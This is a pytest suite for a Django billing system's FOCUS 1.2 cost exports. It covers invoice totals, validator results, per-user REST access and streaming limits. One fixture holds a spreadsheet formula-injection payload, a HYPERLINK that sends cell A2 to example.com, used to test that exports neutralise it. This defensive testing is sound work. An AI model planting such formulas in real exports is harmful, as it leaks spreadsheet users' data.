"""FOCUS 1.2: the entries of a month add up to its invoices, and the public validator accepts the file."""

from __future__ import annotations

import csv
import datetime as dt
import io
import socket
import tracemalloc
from collections import defaultdict
from decimal import Decimal
from fractions import Fraction

import pytest
from django.core.management import CommandError, call_command
from django.db import connection
from pyarrow import parquet
from rest_framework.test import APIClient

from billing.exports import api as exports_api
from billing.exports import files, focus
from billing.invoices import closing, credit_notes, drafts, spans
from billing.ledger import posting
from billing.models import Credit, CreditNote, Discount, Invoice, LedgerEntry, Price
from portal.models import Appcode
from portal.web import limits
from portal.web.downloads import inert
from tests.billing.invoices.test_closing import APRIL, DAY, HOUR, IN_APRIL, IN_MAY, MARCH, MAY, at, pod, record
from tests.focus.validator import validate

# New appcodes cannot have such a name, but old ones may.
FORMULA = '=HYPERLINK("http://example.com/?"&A2,"pay")'


def read(month: dt.date, appcodes: list[int] | None = None) -> list[dict[str, str]]:
    data = b"".join(files.chunks(month, appcodes, "csv"))
    return list(csv.DictReader(io.StringIO(data.decode(), newline="")))


def total(rows: list[dict[str, str]], column: str = "BilledCost") -> Decimal:
    return sum((Decimal(row[column]) for row in rows), Decimal(0))


@pytest.fixture
def months(people):
    """Two closed months and an open one, with discounts, a special price, a move to another business line, a correction, late
    usage, credits and a credit note."""
    Appcode.objects.filter(pk=people.flight.pk).update(name=FORMULA)
    since = dt.datetime(2026, 1, 1, tzinfo=dt.UTC)
    for sku, per_hour in (
        ("gpu", "1.2"),
        ("gpu:A100", "3.3333"),
        ("spare-gpu:A100", "1.1"),
        ("cpu", "0.03"),
        ("memory", "0.004"),
        ("storage", "0.0001"),
    ):
        Price.objects.create(sku=sku, per_hour=Decimal(per_hour), valid_from=since)
    Price.objects.create(sku="cpu", per_hour=Decimal("0.027"), valid_from=since, appcode=people.flight)
    Discount.objects.create(sku="gpu", percent=Decimal("12.5"), valid_from=at(HOUR // 2), business_line="qunarcorp.ops")
    Credit.objects.create(
        appcode=people.ops, amount=2, reason="A night without power", valid_from=since, created_by="root"
    )
    record(
        pod(people.ops.pk, "p-1", end=HOUR + 7, gpu_model="A100"), pod(people.ops.pk, "p-2", end=3 * HOUR + 1, gpus=0),
        pod(people.flight.pk, "p-3", end=1234, storage_mb=777), pod(people.flight.pk, "p-4", end=40 * DAY),
        pod(people.flight.pk, "p-7", end=99, gpu_model="A100", kind="spare"),
    )  # fmt: skip
    posting.post(at(4 * HOUR))
    # Late news with other times, which reverses lines within the month.
    record(pod(people.ops.pk, "p-2", end=3 * HOUR + 1, gpus=0, begin=-7))
    posting.post(at(5 * HOUR))
    closing.close_due(IN_APRIL)
    record(
        pod(people.ops.pk, "p-5", begin=-3 * DAY, end=-3 * DAY + 101), pod(people.ops.pk, "p-6", begin=DAY, end=DAY + 5)
    )
    record(pod(people.ops.pk, "p-1", begin=-11, end=HOUR + 7, gpu_model="A100"))
    posting.post(IN_APRIL + dt.timedelta(days=1))
    closing.close_due(IN_MAY)
    march = Invoice.objects.get(appcode=people.ops, month=MARCH)
    credit_notes.issue(march, Decimal("0.10"), "Sorry, “<so>”", acting_user=people.root)
    assert LedgerEntry.objects.filter(kind="reversal").exists()
    return people


@pytest.mark.parametrize("month", [MARCH, APRIL])
def test_a_month_adds_up_to_its_invoices(months, month):
    rows, invoices = read(month), list(Invoice.objects.filter(month=month))
    sums: defaultdict[str, list[dict[str, str]]] = defaultdict(list)
    for row in rows:
        sums[row["InvoiceId"]].append(row)
    assert {number: total(of) for number, of in sums.items()} == {each.number: each.total for each in invoices}
    assert total(rows) == sum(each.total for each in invoices)
    assert total(rows, "EffectiveCost") == total(rows)
    exact = [row for row in rows if row["ChargeCategory"] == "Usage"]
    for row in exact:
        for cost, price in (("ListCost", "ListUnitPrice"), ("ContractedCost", "ContractedUnitPrice")):
            assert Decimal(row[cost]) == Decimal(row[price]) * Decimal(row["PricingQuantity"])
        assert row["BilledCost"] == row["EffectiveCost"] == row["ContractedCost"]
    assert total(exact, "ListCost") > total(exact)
    # Metered quantities equal the ledger's to the second.
    span = spans.span_so_far(month)
    entries = [entry for entry in LedgerEntry.objects.all() if span.covers(entry)]
    assert [row["x_LedgerEntryId"] for row in exact] == [str(entry.pk) for entry in entries]
    for row, entry in zip(exact, entries, strict=True):
        assert Decimal(row["ConsumedQuantity"]) * (1000 if entry.sku == "cpu" else 1) == entry.quantity
        assert abs(Decimal(row["BilledCost"]) - entry.amount) < Decimal("1e-10")


def test_every_kind_of_charge_is_what_the_specification_calls_it(months):
    march, april = read(MARCH), read(APRIL)
    kinds = {(row["x_LedgerKind"], row["ChargeCategory"], row["ChargeClass"]) for row in march + april}
    assert kinds == {
        ("usage", "Usage", ""), ("usage", "Usage", "Correction"), ("reversal", "Usage", ""), ("reversal", "Usage", "Correction"),
        ("credit", "Credit", ""), ("rounding", "Adjustment", ""),
    }  # fmt: skip
    late = next(row for row in april if row["ResourceId"] == "p-5" and row["SkuId"] == "gpu")
    assert (late["BillingPeriodStart"], late["ChargePeriodStart"]) == ("2026-04-01T00:00:00Z", "2026-03-28T22:00:00Z")
    assert (late["PricingUnit"], late["ConsumedUnit"], late["ConsumedQuantity"]) == ("GPU-Hours", "GPU-Seconds", "101")
    assert late["Tags"].startswith('{"gpu-cloud/cluster":"show1",')
    assert (late["SubAccountId"], late["BillingAccountId"], late["ResourceName"]) == (
        "ops-demo", "qunarcorp.ops", "show1-1-worker-0",
    )  # fmt: skip
    spare = next(row for row in march if row["ResourceId"] == "p-7" and "gpu" in row["SkuId"])
    assert (spare["SkuId"], spare["SkuMeter"], spare["ListUnitPrice"]) == ("spare-gpu:A100", "GPU time, spare", "1.1")
    # It is agreed before use, and does not follow demand.
    assert spare["PricingCategory"] == "Standard"
    assert spare["SkuPriceDetails"] == '{"GpuCount":1,"x_Class":"spare","x_GpuModel":"A100"}'
    assert spare["ChargeDescription"] == "GPU time, spare (A100) of show1-1-worker-0"
    discounted = [row for row in march if row["x_DiscountPercent"] == "12.5"]
    assert discounted
    assert {Decimal(row["ContractedUnitPrice"]) / Decimal(row["ListUnitPrice"]) for row in discounted} == {
        Decimal("0.875")
    }


def test_credit_notes_stand_in_the_month_in_which_they_were_issued(months):
    note = CreditNote.objects.get()
    (row,) = [
        row
        for row in read(note.issued_at.astimezone(dt.UTC).date().replace(day=1))
        if row["x_LedgerKind"] == "credit-note"
    ]
    assert (row["InvoiceId"], row["BilledCost"], row["ChargeCategory"]) == (note.number, "-0.1", "Adjustment")
    assert (row["ChargeClass"], row["ChargePeriodStart"]) == ("Correction", "2026-03-01T00:00:00Z")


def test_an_open_month_has_what_is_posted_on_no_invoice(months):
    posting.post(at(50 * DAY))
    rows = read(MAY)
    assert {row["InvoiceId"] for row in rows} == {""}
    draft = drafts.draft(months.flight, MAY, at(50 * DAY))
    assert abs(total(rows) - sum(line.exact for line in draft.document.lines)) < Decimal("1e-9")


def test_parquet_says_the_same_as_csv(months, tmp_path):
    file = tmp_path / "april.parquet"
    file.write_bytes(b"".join(files.chunks(APRIL, None, "parquet")))
    table = parquet.read_table(file)
    assert table.column_names == list(focus.COLUMNS)
    told = [{name: focus.text(inert(value)) for name, value in row.items()} for row in table.to_pylist()]
    assert told == read(APRIL)
    empty = tmp_path / "empty.parquet"
    empty.write_bytes(b"".join(files.chunks(dt.date(2020, 1, 1), None, "parquet")))
    assert parquet.read_table(empty).num_rows == 0


def test_a_name_that_is_a_formula_reaches_no_spreadsheet(months, tmp_path):
    rows = read(APRIL)
    assert {row["SubAccountName"] for row in rows if row["SubAccountId"] == "flight-demo"} == {f"'{FORMULA}"}
    # Amounts stay unchanged, negative ones too.
    assert any(row["BilledCost"].startswith("-") for row in rows)
    file = tmp_path / "april.parquet"
    file.write_bytes(b"".join(files.chunks(APRIL, None, "parquet")))
    assert FORMULA in parquet.read_table(file).column("SubAccountName").to_pylist()


@pytest.mark.timeout(600)
def test_the_public_validator_finds_nothing_and_would_find_something(months, tmp_path):
    exported, wrong = [tmp_path / f"april.{kind}" for kind in files.FORMATS], tmp_path / "march.csv"
    for file in exported:
        call_command("export_focus", month="2026-04", format=file.suffix[1:], output=str(file))
    call_command("export_focus", month="2026-03", output=str(wrong))
    wrong.write_text(wrong.read_text().replace(",Usage,", ",Use,").replace(",USD,", ",Dollars,"))
    *verdicts, other = validate(*exported, wrong)
    for verdict in verdicts:
        # C-004 requires InvoiceId to be null, C-005 not null: every file fails one of them. C-003 passes if either holds.
        assert verdict.failed == ["InvoiceId-C-004-C"]
        assert "InvoiceId-C-003-C: PASS" in verdict.output
        assert verdict.passed > 270
    assert {"BillingCurrency-C-003-M", "BillingCurrency-C-006-M", "ConsumedQuantity-C-003-C"} <= {*other.failed}, other


def test_the_command_writes_a_file_or_says_why_not(months, tmp_path, capfdbinary):
    file = tmp_path / "march.csv"
    call_command("export_focus", month="2026-03", output=str(file))
    call_command("export_focus", month="2026-03", output="-")
    assert capfdbinary.readouterr().out == file.read_bytes()
    assert [each.name for each in tmp_path.iterdir()] == ["march.csv"]
    call_command("export_focus", month="2026-03", appcode=["flight-demo"], output=str(file))
    assert {row["SubAccountId"] for row in csv.DictReader(file.open())} == {"flight-demo"}
    for wrong in ({"month": "2026-13"}, {"month": "2099-01"}, {"month": "2026-03", "appcode": ["nobody"]}):
        with pytest.raises(CommandError):
            call_command("export_focus", **wrong)
    with pytest.raises(CommandError, match="cannot be written"):
        call_command("export_focus", month="2026-03", output=str(tmp_path / "absent" / "march.csv"))


def test_rest_gives_everybody_their_own(months):
    api = APIClient()
    path = "/api/v1/exports/focus"
    assert api.get(path, {"month": "2026-03"}).status_code == 401
    codes = {}
    for name in ("alice", "victor", "mallory", "root"):
        api.force_authenticate(getattr(months, name))
        response = api.get(path, {"month": "2026-03"})
        assert response.status_code == 200
        text = b"".join(response.streaming_content).decode()
        codes[name] = {row["SubAccountId"] for row in csv.DictReader(io.StringIO(text))}
    ops, flight = {"ops-demo"}, {months.flight.code}
    assert codes == {"alice": ops, "victor": ops, "mallory": flight, "root": ops | flight}
    response = api.get(path, {"month": "2026-03", "format": "parquet", "appcode": "ops-demo"})
    assert response["Content-Disposition"] == 'attachment; filename="focus-ops-demo-2026-03.parquet"'
    assert b"".join(response.streaming_content)[:4] == b"PAR1"
    for query in ({}, {"month": "2026-3"}, {"month": "2026-03", "format": "xlsx"}, {"month": "2099-01"}):
        assert api.get(path, query).status_code == 422
    api.force_authenticate(months.mallory)
    assert api.get(path, {"month": "2026-03", "appcode": "ops-demo"}).status_code == 404


@pytest.mark.timeout(600)
@pytest.mark.parametrize("kind", files.FORMATS)
def test_memory_does_not_grow_with_the_month(months, kind, monkeypatch):
    monkeypatch.setattr(files, "PORTION", 50)
    monkeypatch.setattr(files, "ROW_GROUP", 250)
    columns = (
        "segment_id, uid, sku, since, until, quantity, price_id, per_hour, discount, charge, appcode_id, business_line,"
        " consumer, labels"
    )

    def peak(copies: int) -> tuple[int, int]:
        with connection.cursor() as cursor:
            cursor.execute(
                f"INSERT INTO billing_ledgerentry (kind, {columns}) SELECT kind, {columns}"
                " FROM billing_ledgerentry, generate_series(1, %s)"
                " WHERE id = (SELECT max(id) FROM billing_ledgerentry WHERE kind = 'usage')",
                [copies],
            )
        tracemalloc.start()
        size = sum(len(chunk) for chunk in files.chunks(MAY, None, kind))
        most = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        return size, most

    few, many = peak(500), peak(1500)
    assert many[0] > few[0] * (2 if kind == "csv" else 1)
    assert many[1] < 1.5 * few[1]


def test_a_large_invoice_adds_up_exactly(people):
    Price.objects.create(sku="gpu", per_hour=Decimal("98765432.198767"), valid_from=at(-9 * DAY))
    record(*(pod(people.ops.pk, f"p-{n}", end=3001 + 7 * n, gpus=77) for n in range(40)))
    posting.post(at(HOUR * 9))
    closing.close_due(IN_APRIL)
    (invoice,) = Invoice.objects.all()
    assert invoice.total > 10**11
    assert sum(Fraction(row["BilledCost"]) for row in read(MARCH)) == Fraction(invoice.total)


def cursors() -> int:
    """Returns the number of server-side cursors open in this connection, one per unfinished read."""
    with connection.cursor() as cursor:
        cursor.execute("SELECT count(*) FROM pg_cursors")
        return cursor.fetchone()[0]


@pytest.mark.parametrize("kind", files.FORMATS)
def test_who_reads_slowly_holds_no_snapshot(months, monkeypatch, kind):
    monkeypatch.setattr(files, "PORTION", 2)
    monkeypatch.setattr(files, "ROW_GROUP", 2)
    monkeypatch.setattr(exports_api, "CHUNK", 100)
    before = cursors()
    making = files.rows(MARCH, None)
    next(making)
    # The database ends a transaction whose reader stops.
    assert cursors() == before + 1
    with connection.cursor() as cursor:
        cursor.execute("SHOW idle_in_transaction_session_timeout")
        assert cursor.fetchone() == ("1min",)
    making.close()
    assert cursors() == before
    api = APIClient()
    api.force_authenticate(months.root)
    here, there = socket.socketpair()
    with here, there:
        query = {"month": "2026-03", "format": kind}
        response = api.get("/api/v1/exports/focus", query, **{"gunicorn.socket": here})
        # A client that reads nothing is disconnected; without the timeout, send() would block for ever.
        assert here.gettimeout() == limits.STALLED_SECONDS
    pieces = iter(response.streaming_content)
    read = len(next(pieces))
    assert cursors() == before
    assert 0 < read < int(response["Content-Length"]) == read + sum(map(len, pieces))
    response.close()


def test_a_reader_is_let_go_when_its_time_is_over(months, monkeypatch):
    api = APIClient()
    api.force_authenticate(months.root)
    monkeypatch.setattr(exports_api, "CHUNK", 100)
    response = api.get("/api/v1/exports/focus", {"month": "2026-03"})
    monkeypatch.setattr(files, "MAX_SECONDS", -1)
    with pytest.raises(TimeoutError, match="not read"):
        list(response.streaming_content)
    response.close()


def test_an_export_for_which_there_is_no_room_is_refused_and_takes_no_place(months, settings):
    settings.EXPORT_MAX_BYTES = 1000
    api = APIClient()
    api.force_authenticate(months.root)
    # More requests than one person may have open at a time.
    for _ in range(5):
        response = api.get("/api/v1/exports/focus", {"month": "2026-03"})
        assert response.status_code == 422
        assert response.json()["errors"][0]["path"] == "month"
